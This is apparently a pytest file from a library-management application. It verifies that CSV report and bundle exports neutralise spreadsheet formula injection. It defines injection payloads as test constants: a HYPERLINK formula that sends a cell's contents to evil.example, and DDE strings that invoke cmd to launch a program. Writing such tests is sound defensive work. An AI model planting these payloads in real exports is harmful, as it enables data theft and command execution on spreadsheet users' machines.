"""Smaller holes an insider finds: formulas in CSV cells, letters that overwrite each other,
terminal codes in printed text, unaudited exports, half-built catalogues, orphan workers and
tracebacks for huge numbers or a closed pipe."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest

from readingroom import borrowers, catalogue, circulation, reports, staff, stocktake
from readingroom.reports import Options
from tests.core.cli_support import PASSWORD
from tests.core.inspection_support import Calendar

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
COMMAND = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def hostile(db, supervisor, monkeypatch) -> date:
    """A catalogue whose every text field a librarian can type starts a formula: works,
    borrowers, an override reason, a return note, a stocktake signer and a location."""
    calendar = Calendar(monkeypatch, date(2026, 10, 1))
    lib = staff.add_staff(supervisor, "lib", "librarian", PASSWORD, "Desk Librarian")
    work = catalogue.add_work(supervisor, title=HYPERLINK, author=COMMAND, translator=MINUS)
    other = catalogue.add_work(supervisor, title=AT_SUM, author=TAB)
    for n in range(1, 4):
        catalogue.add_copy(supervisor, work.id, f"H{n}", location=CR)
    catalogue.add_copy(supervisor, other.id, "H9", location=MINUS)
    borrowers.add_borrower(supervisor, "W1", name=AT_SUM, role="writer", organisation=MINUS)
    borrowers.add_borrower(supervisor, "C1", name=HYPERLINK, role="cadre",
                           organisation=COMMAND)
    circulation.lend(lib, "H1", "W1")
    circulation.lend(supervisor, "H2", "C1", override_reason=HYPERLINK)
    circulation.lend(lib, "H9", "W1")
    circulation.return_copy(lib, "H9", condition="ragged", note=COMMAND)
    calendar.shift(40)
    stocktake.start(lib)
    stocktake.scan(lib, "H3", MINUS)
    stocktake.close(supervisor, AT_SUM)
    return calendar.day


@pytest.mark.parametrize("kind", reports.KINDS)
def test_no_csv_cell_of_any_report_starts_a_formula(hostile, tmp_path, kind):
    out = tmp_path / f"{kind}.csv"
    options = Options(today=hostile, start=date(2026, 1, 1), end=hostile)
    written = reports.write(kind, "csv", out, options)
    assert written.rows > 0
    with out.open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)]
    assert dangerous == []
    neutralised = [c for c in cells if c.startswith("'")]
    assert neutralised, f"the {kind} report shows none of the hostile text"
    assert all(c[1:].startswith(FORMULA_STARTS) for c in neutralised)
    # the text itself is kept whole behind its quote
    known = {HYPERLINK, COMMAND, AT_SUM, MINUS, TAB, CR}
    assert {c[1:] for c in neutralised} <= known


def test_numbers_stay_numbers_in_csv():
    from readingroom.reports.base import csv_value

    assert csv_value(-3) == "-3"
    assert csv_value(2.5) == "2.5"
    assert csv_value("-3") == "'-3"
    assert csv_value(None) == ""
    assert csv_value(True) == "yes"


def test_the_bundles_csv_files_are_neutralised_too(hostile, tmp_path):
    from readingroom import bundle

    options = Options(today=hostile, start=date(2026, 1, 1), end=hostile)
    exported = bundle.export_bundle(tmp_path / "bundle", None, options)
    files = sorted((tmp_path / "bundle").glob("*.csv"))
    assert len(files) == len(reports.KINDS), exported.skipped
    for path in files:
        with path.open(encoding="utf-8", newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)] == []
